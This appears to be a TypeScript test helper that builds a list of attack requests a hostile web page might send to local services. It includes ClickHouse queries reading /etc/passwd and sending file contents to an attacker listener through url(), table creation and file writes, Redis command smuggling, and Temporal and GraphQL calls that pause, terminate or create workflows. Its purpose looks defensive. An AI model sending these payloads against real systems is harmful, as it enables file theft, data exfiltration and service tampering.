/** The requests by which a page tries to read and to steer each of the parts, whichever it has met. `CASE` stands for the case's id. */

export interface Shots {
  /** Paths with queries. */
  gets: string[];
  posts: { path: string; body: string }[];
}

export interface Bait {
  /** Files with secrets, by their paths. */
  files: readonly string[];
  /** Of the attacker's own server, without trailing slash; nothing of ours may ever ask it. */
  listener: string;
  source: string;
}

const sql = (query: string, more = ''): string => `/?query=${encodeURIComponent(query)}${more}`;

export function shotsFor({ files, listener, source }: Bait): Shots {
  const [file = '/etc/passwd'] = files;
  const comment = `&log_comment=${encodeURIComponent('{"by":"live-list"}')}`;
  const asScript = (path: string): string =>
    `SELECT concat('stolen("CASE",', toJSONString(groupConcat(' ')(line)), ')') FROM file('${path}', 'LineAsString') FORMAT RawBLOB`;
  const sendAway = `SELECT * FROM url(concat('${listener}/sent/CASE?', encodeURLComponent((SELECT groupConcat(' ')(line) FROM file('${file}', 'LineAsString')))), 'LineAsString')`;
  const workflow = `/api/v1/namespaces/default/workflows/${encodeURIComponent(`source:${source}`)}`;
  const mutation = 'mutation { backfill(from: "2001-01", to: "2001-01", force: true) { __typename } }';
  const question = '{ p90 { value trips } source { paused } files { nodes { filename } } }';
  return {
    gets: [
      ...files.map((path) => sql(asScript(path))),
      sql(asScript(file), comment),
      sql(asScript(file), '&user=default&password='),
      sql(sendAway),
      sql(`SELECT * FROM url('${listener}/asked/CASE', 'LineAsString')`, comment),
      sql(`SELECT * FROM trips LIMIT 1 FORMAT JSON`),
      sql('CREATE TABLE attack_CASE (a Int8) ENGINE = Memory'),
      sql(`SELECT 1 INTO OUTFILE '/tmp/attack_CASE'`),
      '/ping',
      '/',
      // No URL, to some who parse them.
      '//',
      '//x:99999/',
      '/%zz?query=%zz',
      `/graphql?query=${encodeURIComponent(mutation)}`,
      `/graphql?query=${encodeURIComponent(question)}&callback=stolen`,
      `/graphql?query=${encodeURIComponent('subscription { ingestionProgress { underWay { filename } } }')}`,
      '/api/p90?callback=stolen&jsonp=stolen',
      '/api/files',
      '/documents.json',
      workflow,
      `${workflow}/history`,
      '/api/v1/namespaces',
      '/api/v1/settings',
      '/metrics',
      '/debug/pprof/heap',
    ],
    posts: [
      { path: '/', body: 'CREATE TABLE attack_CASE (a Int8) ENGINE = Memory' },
      { path: '/?query=', body: sendAway },
      {
        path: `/?user=default&log_comment=${encodeURIComponent('{"by":"load"}')}`,
        body: 'CREATE TABLE attack_CASE (a Int8) ENGINE = Memory',
      },
      { path: '/', body: "\r\nSET attack:CASE 1\r\nEVAL \"redis.call('set','attack:CASE',1)\" 0\r\n" },
      { path: `${workflow}/signal/pause`, body: '{"signalName":"pause","identity":"CASE"}' },
      { path: `${workflow}/terminate`.replace('source', 'nothing'), body: '{"reason":"CASE"}' },
      {
        path: '/api/v1/namespaces/default/workflows/attack-CASE',
        body: '{"workflowType":{"name":"sweep"},"taskQueue":{"name":"attack"},"identity":"CASE"}',
      },
      {
        path: '/api/v1/namespaces',
        body: '{"namespace":"attack-CASE","workflowExecutionRetentionPeriod":"86400s"}',
      },
      {
        path: '/namespaces/default/task-queues/attack-CASE/nexus-services/a/b',
        body: '{"identity":"CASE"}',
      },
      { path: '/graphql', body: JSON.stringify({ query: mutation }) },
      { path: '/graphql', body: JSON.stringify({ query: 'mutation { pause { __typename } }' }) },
      {
        path: '/api/arrivals',
        body: JSON.stringify({
          Records: [
            {
              eventName: 'ObjectCreated:Put',
              s3: { bucket: { name: 'a' }, object: { key: 'attack_CASE.parquet' } },
            },
          ],
        }),
      },
    ],
  };
}
